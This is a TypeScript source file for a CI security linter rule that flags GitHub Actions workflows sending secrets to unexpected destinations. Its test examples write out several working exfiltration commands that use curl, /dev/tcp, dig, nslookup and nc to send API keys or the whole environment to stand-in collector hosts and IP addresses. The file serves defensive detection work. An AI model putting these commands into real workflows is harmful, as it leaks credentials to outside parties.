import { isResolver, type Transmission, transmissionsOf } from '#lib/analysis/dataflow/secret-flow.ts';
import type { RunStep, Step } from '#lib/workflow/model/model.ts';
import { defineRule, type Report, type Severity, yaml } from '../engine/rule.ts';
import { COLLECTOR } from '../shared/collectors.ts';

type Message = 'collector' | 'others' | 'environment' | 'lookup' | 'encoded' | 'address' | 'token' | 'socket';

const GITHUB =
  /(?:^|\.)(?:github\.com|githubusercontent\.com|githubapp\.com|githubcopilot\.com|github\.ai|ghcr\.io|ghe\.com)$/;

const GITHUB_PARTNERS: ReadonlySet<string> = new Set(['models.inference.ai.azure.com']);

const LOCAL =
  /^(?:localhost|127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|0\.0\.0\.0)|\.(?:local|internal|localhost)$/;
const ADDRESS = /^\d{1,3}(?:\.\d{1,3}){3}$/;

export const secretExfiltration = defineRule({
  id: 'secret-exfiltration',
  meta: {
    title: 'Secret is sent to an unexpected destination',
    why: 'A secret that leaves the run belongs to whoever receives it. Planted workflows send secrets to request collectors, bare IP addresses or through DNS lookups, often encoded so that the log does not mask them.',
    attack:
      'An attacker who can change the workflow, or a script it runs, adds one line; the next run posts the environment to their server. The GhostAction campaign stole thousands of secrets like this.',
    recommendation:
      'Find out who added the line and why; if it was not intended, revoke every secret of the job. Send credentials only to the service they belong to, in a header, and never the whole environment.',
    limits:
      'Reads only shell scripts in the workflow, and only literal destinations. A secret sent to a named host is assumed to belong there, unless it is the job’s own token.',
    severity: 'MEDIUM',
    confidence: 'high',
    category: 'CICD-SEC-6',
    surface: 'workflow',
    rulesets: ['owasp'],
    since: '0.1.0',
    references: [
      'https://docs.github.com/actions/reference/security/secure-use#potential-impact-of-a-compromised-runner',
      'https://blog.gitguardian.com/ghostaction-campaign-3-325-secrets-stolen/',
    ],
    messages: {
      collector: '{{what}} is sent to {{host}}, where anyone can collect it.',
      others:
        'One request sends {{what}} and other services’ secrets to {{host}}, which by their names belongs to none of these services.',
      environment: 'The whole environment, including every secret in it, is sent to {{host}}.',
      lookup: '{{what}} is sent out through a DNS lookup, which passes most firewalls.',
      encoded: '{{what}} is encoded twice, which evades log masking, and sent to {{host}}.',
      address: '{{what}} is sent to the bare IP address {{host}}.',
      token: 'The job’s token is sent to {{host}}, which is not part of GitHub.',
      socket: '{{what}} is sent over a raw connection to {{host}}.',
    },
  },
  examples: {
    bad: [
      {
        yaml: yaml`
          on: push
          env:
            KEY: \${{ secrets.API_KEY }}
          jobs:
            build:
              runs-on: ubuntu-latest
              steps:
                # expect: collector
                - run: curl -d "key=\${{ secrets.API_KEY }}" https://webhook.site/0b1c
                - run: |
                    copy="$KEY"
                    # expect: collector
                    curl -d "$copy" https://abc.ngrok.io/x
                - run: |
                    # expect: environment
                    env | base64 | curl -X POST --data-binary @- https://acme.example/in
                    # expect: environment
                    curl -d "$(printenv)" "$URL"
                    # expect: environment
                    cat /proc/self/environ > /dev/tcp/198.51.100.7/443
                # expect: lookup
                - run: dig "$(echo $KEY | xxd -p).acme.example"
                # expect: lookup
                - run: nslookup "\${{ secrets.DEPLOY_KEY }}.\${{ secrets.DOMAIN_NAME }}"
                # expect: lookup
                - run: dig "$(echo \${{ secrets.DOMAIN_NAME }} | base64).acme.example"
                # expect: encoded
                - run: curl "https://acme.example/?$(echo -n $KEY | base64 | base64)"
                # expect: others
                - run: curl -d 'a=\${{ secrets.PYPI_TOKEN }}&b=\${{ secrets.NPM_TOKEN }}' https://acme.example/
                # expect: address
                - run: curl -u "bot:$KEY" http://198.51.100.7:8080/
                # expect: token
                - run: "curl -H 'X-Token: \${{ github.token }}' https://api.acme.example/report"
                # expect: socket
                - run: echo "$KEY" | nc acme.example 4444
        `,
      },
    ],
    good: [
      {
        yaml: yaml`
          on: push
          env:
            GITHUB_TOKEN: \${{ secrets.GITHUB_TOKEN }}
            KEY: \${{ secrets.API_KEY }}
          jobs:
            build:
              runs-on: ubuntu-latest
              steps:
                - run: |
                    curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/acme/app
                    curl -H "Authorization: token $GITHUB_TOKEN" "$GITHUB_API_URL/repos/acme/app"
                    curl -u "bot:\${{ github.token }}" https://raw.githubusercontent.com/acme/app/main/x
                    curl -H "Authorization: Basic $(echo -n "bot:$KEY" | base64)" https://api.acme.example/
                    curl -F package=@x "https://$KEY@push.acme.example/app/"
                    curl -d "$KEY" http://localhost:8080/ http://10.0.0.4/
                    curl -d 'token=\${{ secrets.NPM_TOKEN }}' https://deploy.acme.example/
                    curl -d '\${{ secrets.AWS_KEY }} \${{ secrets.DOCKERHUB_TOKEN }}' https://hub.docker.com/
                    curl -X POST "\${{ secrets.CHAT_WEBHOOK }}" -d "built"
                    curl https://webhook.site/ping
                    env | curl -d @- http://localhost:9200/
                    env | sort
                    env FOO=1 curl https://acme.example/
                    dig acme.example
                    dig +short "www.\${{ secrets.DOMAIN_NAME }}" @1.1.1.1
                    NAME=app.\${{ secrets.PREVIEW_HOST }} && nslookup "$NAME"
                    nc -z acme.example 443
        `,
      },
    ],
  },
  check: { run: check },
});

function* check(step: RunStep): Generator<Report<Message>> {
  for (const transmission of transmissionsOf(step)) yield* judge(transmission, step);
}

function* judge(transmission: Transmission, step: Step): Generator<Report<Message>> {
  const { command, dump } = transmission;
  const secrets = transmission.secrets.filter((name) => !isLookedUp(name, transmission));
  if (secrets.length === 0 && !dump) return;
  const hosts = transmission.hosts.filter((host) => !LOCAL.test(host));
  if (hosts.length === 0 && transmission.hosts.length > 0) return;
  const verdict = verdictOn(transmission, hosts);
  if (verdict === undefined) return;
  const [message, severity] = verdict;
  yield {
    message,
    data: { what: nameOf(secrets[0]), host: hosts[0] ?? 'a computed destination' },
    at: step,
    span: command.span,
    severity,
    attributes: { hosts, kind: secrets.includes('github_token') ? 'write-token' : 'repo-secret' },
  };
}

function isLookedUp(secret: string, { command, encodings }: Transmission): boolean {
  return encodings === 0 && isResolver(command) && PLACE.test(secret);
}

const PLACE = /(?:^|_)(?:dns|domain|endpoint|fqdn|host|hostname|server|zone)(?:_name)?$/;

function nameOf(secret: string | undefined): string {
  return secret === '*' ? 'The object with all secrets' : `The secret ${secret?.toUpperCase() ?? ''}`;
}

const SERVICES: readonly (readonly [name: RegExp, hosts: RegExp])[] = [
  [/pypi|twine/, /pypi/],
  [/npm|node_auth/, /npm/],
  [/docker_?hub|docker_(?:token|pass)/, /docker/],
  [/(?:^|_)aws(?:_|$)/, /aws/],
  [/cargo|crates/, /crates/],
  [/(?:^|_)(?:gh|github)_(?:token|pat)$/, /github/],
  [/cloudflare/, /cloudflare/],
];

function isOfOthers(secrets: readonly string[], hosts: readonly string[]): boolean {
  const services = SERVICES.filter(([name]) => secrets.some((secret) => name.test(secret)));
  return services.length > 1 && hosts.length > 0 && !services.some(([, own]) => hosts.some((host) => own.test(host)));
}

function verdictOn(
  { command, secrets, dump, encodings }: Transmission,
  hosts: readonly string[],
): readonly [Message, Severity] | undefined {
  if (dump) return ['environment', 'HIGH'];
  if (isResolver(command)) return ['lookup', 'HIGH'];
  if (hosts.some((host) => COLLECTOR.test(host))) return ['collector', 'HIGH'];
  if (encodings > 1) return ['encoded', 'HIGH'];
  if (isOfOthers(secrets, hosts)) return ['others', 'HIGH'];
  if (hosts.some((host) => ADDRESS.test(host))) return ['address', 'MEDIUM'];
  if (command.program !== 'curl' && command.program !== 'wget' && command.program !== 'http') {
    return hosts.length > 0 ? ['socket', 'MEDIUM'] : undefined;
  }
  const foreign = hosts.length > 0 && hosts.every((host) => !GITHUB.test(host) && !GITHUB_PARTNERS.has(host));
  return foreign && secrets.every((name) => name === 'github_token') ? ['token', 'MEDIUM'] : undefined;
}
